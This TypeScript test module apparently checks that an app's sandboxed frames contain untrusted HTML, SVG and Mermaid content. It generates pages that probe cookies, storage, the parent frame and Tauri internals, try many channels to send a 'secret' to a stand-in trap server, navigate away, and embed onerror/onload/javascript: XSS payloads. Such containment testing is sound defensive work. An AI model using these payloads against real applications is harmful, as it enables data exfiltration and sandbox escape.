/** A page that leads its own frame away, or tries to. */
export type Departure = { readonly name: string; readonly code: string };

/** Says that a script ran, and what came of it, where the page around it shows it. */
const report = (what: string) => `console.error("ran " + ${what});`;

/** Tries to reach all that is not its own, and reports what each attempt came to. */
export const reaching = `<title>Reaching</title><script>
const ways = {
  cookie: () => { if (document.cookie === "") throw new Error("none"); return document.cookie; },
  storage: () => localStorage.length,
  session: () => sessionStorage.length,
  database: () => indexedDB.open("x").readyState,
  caches: () => caches.keys().then(() => {}) && "opened",
  parentDocument: () => parent.document.title,
  topAddress: () => top.location.href,
  parentName: () => { parent.reached = 1; return "set"; },
  parentEval: () => parent.eval("1"),
  tauri: () => parent.__TAURI_INTERNALS__.invoke,
  ownTauri: () => { if (!window.__TAURI_INTERNALS__) throw new Error("none"); return "there"; },
  frameElement: () => { if (!window.frameElement) throw new Error("none"); return frameElement.outerHTML; },
  siblings: () => parent.frames[1].document.title,
  opener: () => { if (!window.opener) throw new Error("none"); return "there"; },
  popup: () => { if (!window.open("about:blank")) throw new Error("none"); return "opened"; },
  topNavigation: () => { top.location = "about:blank"; return "led away"; },
  evaluate: () => (0, eval)("1"),
  fullscreen: () => { if (!document.fullscreenEnabled) throw new Error("none"); return "allowed"; },
  child: () => { const f = document.createElement("iframe"); document.documentElement.append(f); return f.contentWindow.document.title; },
  alert: () => { const before = performance.now(); alert("stop"); if (performance.now() - before < 50) throw new Error("none"); return "shown"; },
};
const found = [];
for (const [name, way] of Object.entries(ways)) {
  try { found.push(name + "=" + way()); } catch { /* as it should be */ }
}
${report(`JSON.stringify({ origin: self.origin, found })`)}
</script>`;

/** Tries to send something in every way a page has that does not lead it away. */
export const sending = (trap: string, around: readonly string[]): string => {
  const socket = trap.replace("http", "ws");
  return `<title>Sending</title>
<link rel=preconnect href="${trap}/preconnect"><link rel=dns-prefetch href="${trap}/dns">
<link rel=prefetch href="${trap}/prefetch"><link rel=preload as=image href="${trap}/preload">
<link rel=modulepreload href="${trap}/module.js"><link rel=stylesheet href="${trap}/style.css">
<link rel=icon href="${trap}/icon.ico"><link rel=manifest href="${trap}/manifest">
<script type=speculationrules>{"prefetch":[{"urls":["${trap}/speculated"]}],"prerender":[{"urls":["${trap}/rendered"]}]}</script>
<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${trap}/report">
<base href="${trap}/base/"><img src="relative.png"><img srcset="${trap}/set.png 2x">
<img src="${trap}/image.png"><picture><source srcset="${trap}/source.png"><img></picture>
<video src="${trap}/video" poster="${trap}/poster"></video><audio src="${trap}/audio" autoplay></audio>
<object data="${trap}/object"></object><embed src="${trap}/embed"><iframe src="${trap}/frame"></iframe>
<iframe srcdoc="<img src='${trap}/inner.png'><link rel=preconnect href='${trap}/inner'>"></iframe>
<style>@import "${trap}/import.css"; @font-face { font-family: x; src: url(${trap}/font) }
body { background: url(${trap}/background); font-family: x; cursor: url(${trap}/cursor), auto }</style>
<svg><image href="${trap}/svg.png"/><use href="${trap}/use.svg#a"/><script href="${trap}/svg.js"></script></svg>
<script src="${trap}/script.js"></script><script type=module>import "${trap}/module.mjs";</script>
<input type=image src="${trap}/input.png"><table background="${trap}/table.png"><tr><td>x</table>
<a href="${trap}/link" ping="${trap}/ping" id=link>a</a><a href="${trap}/file" download id=file>b</a>
<form action="${trap}/form" id=form><input name=q value=secret></form>
${around.join("\n--></style></script></textarea></title></svg></math>\n")}
--></style></script></textarea></title></svg></math>
<script>
const swallow = (way) => { try { const end = way(); if (end && end.catch) end.catch(() => {}); } catch { /* refused */ } };
for (const way of [
  () => fetch("${trap}/fetch", { mode: "no-cors" }),
  () => fetch("${trap}/kept", { method: "POST", keepalive: true, mode: "no-cors", body: "x" }),
  () => navigator.sendBeacon("${trap}/beacon", "x"),
  () => { const r = new XMLHttpRequest(); r.open("GET", "${trap}/request"); r.send(); },
  () => new WebSocket("${socket}/socket"),
  () => new EventSource("${trap}/events"),
  () => new WebTransport("${trap.replace("http:", "https:")}/transport"),
  () => import("${trap}/dynamic.js"),
  () => new SharedWorker("${trap}/shared.js"),
  () => new FontFace("f", "url(${trap}/face)").load(),
  () => { new Image().src = "${trap}/made.png"; },
  () => document.getElementById("form").submit(),
  () => document.getElementById("form").requestSubmit(),
  () => window.open("${trap}/opened"),
  () => { top.location = "${trap}/top"; },
  () => { const l = document.createElement("link"); l.rel = "preconnect"; l.href = "${trap}/made"; document.head.append(l); },
  () => { const f = document.createElement("iframe"); f.src = "javascript:new Image().src='${trap}/child.png'"; document.body.append(f); },
  () => { const f = document.createElement("iframe"); f.src = "data:text/html,<img src=${trap}/data.png>"; document.body.append(f); },
  () => new PaymentRequest([{ supportedMethods: "${trap}/pay" }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment(),
  () => navigator.serviceWorker.register("${trap}/service.js"),
  () => new Notification("x", { icon: "${trap}/notice.png" }),
  async () => {
    const port = "${new URL(trap).port}";
    const call = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:" + port }, { urls: "turn:127.0.0.1:" + port + "?transport=tcp", username: "a", credential: "b" }] });
    call.createDataChannel("x");
    await call.setLocalDescription(await call.createOffer());
  },
]) swallow(way);
// Last, so that the faults before do not push it away.
setTimeout(() => { ${report(`"all of it"`)} }, 1500);
// Both lead the frame away, as far as they lead anywhere.
setTimeout(() => document.getElementById("file").click(), 2500);
setTimeout(() => document.getElementById("link").click(), 2800);
</script>`;
};

/** Ways to lead the frame itself to another place. */
export const departures = (trap: string): readonly Departure[] => {
  const away = (name: string, script: string) => ({
    name,
    code: `<p>Away</p><script>${report(`"away"`)}setTimeout(() => { ${script} }, 50);</script>`,
  });
  return [
    away("an address", `location = "${trap}/away?secret"`),
    away("a replaced address", `location.replace("${trap}/replaced?secret")`),
    away(
      "a link in itself",
      `const a = document.createElement("a"); a.href = "${trap}/self"; document.body.append(a); a.click()`,
    ),
    away(
      "a page of data",
      `location = "data:text/html,<script src=${trap}/data.js></" + "script>"`,
    ),
    away(
      "a page of a blob",
      `location = URL.createObjectURL(new Blob(["<img src=${trap}/blob.png>"], { type: "text/html" }))`,
    ),
    away("the page around it", `location = "/"`),
    away(
      "a refresh",
      `const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=${trap}/refresh"; document.head.append(m)`,
    ),
    away("itself, anew", `location.reload()`),
  ];
};

/** Drawings that try to run or to load something. */
export const drawings = (trap: string): readonly string[] => {
  const inside = [
    `<script>top.reached = 1; fetch("${trap}/script")</script>`,
    `<script href="${trap}/script.js"/>`,
    `<image href="${trap}/image.png" width="9" height="9"/>`,
    `<use href="${trap}/use.svg#a"/>`,
    `<foreignObject width="90" height="90"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${trap}/foreign.png" onerror="top.reached = 1"/><iframe src="${trap}/frame"/></body></foreignObject>`,
    `<style>@import "${trap}/import.css"; rect { fill: url(${trap}/fill.svg#a) }</style>`,
    `<a href="javascript:top.reached = 1"><text y="20">a</text></a>`,
    `<animate attributeName="x" begin="0s" dur="1s" onbegin="top.reached = 1"/>`,
    `<set attributeName="href" to="${trap}/set"/>`,
    `<feImage href="${trap}/filter.png"/>`,
  ];
  return [
    ...inside.map(
      (part) =>
        `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 90 90" onload="top.reached = 1"><title>Drawing</title><rect width="90" height="90" fill="teal"/>${part}</svg>`,
    ),
    `<?xml-stylesheet href="${trap}/sheet.css"?><svg xmlns="http://www.w3.org/2000/svg" width="90" height="90"><rect width="9" height="9"/></svg>`,
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "${trap}/entity">]><svg xmlns="http://www.w3.org/2000/svg" width="90" height="90"><text y="20">&x;</text></svg>`,
  ];
};

/** Diagrams that try to run or to load something. */
export const diagrams = (trap: string): readonly string[] => [
  `graph TD\n  A["<img src=${trap}/label.png onerror=top.reached=1>"] --> B\n  click A href "javascript:top.reached=1"`,
  `%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "@import url(${trap}/theme.css)"}}%%\ngraph TD\n  A["<script>top.reached=1</script><img src='${trap}/loose.png'>"] --> B`,
  `%%{init: {"fontFamily": "x; } * { background: url(${trap}/font.png) } a {", "themeVariables": {"primaryColor": "red; background: url(${trap}/color.png)"}}}%%\nsequenceDiagram\n  A->>B: <img src=x onerror=top.reached=1>`,
  `---\ntitle: <img src="${trap}/title.png" onerror="top.reached=1">\nconfig:\n  securityLevel: loose\n---\nclassDiagram\n  class A["<iframe src='${trap}/frame'></iframe>"]`,
  `flowchart LR\n  A@{ img: "${trap}/node.png", label: "x", h: 60 } --> B@{ icon: "fa:user" }`,
  `graph TD\n  A:::x --> B\n  classDef x fill:url(${trap}/class.png),background:url("${trap}/class2.png")\n  style B fill:red;background-image:url(${trap}/style.png)`,
  `gantt\n  title x\n  section <svg onload=top.reached=1>\n  Task :a1, 2026-01-01, 3d\n  click a1 call top.reached("x")`,
];
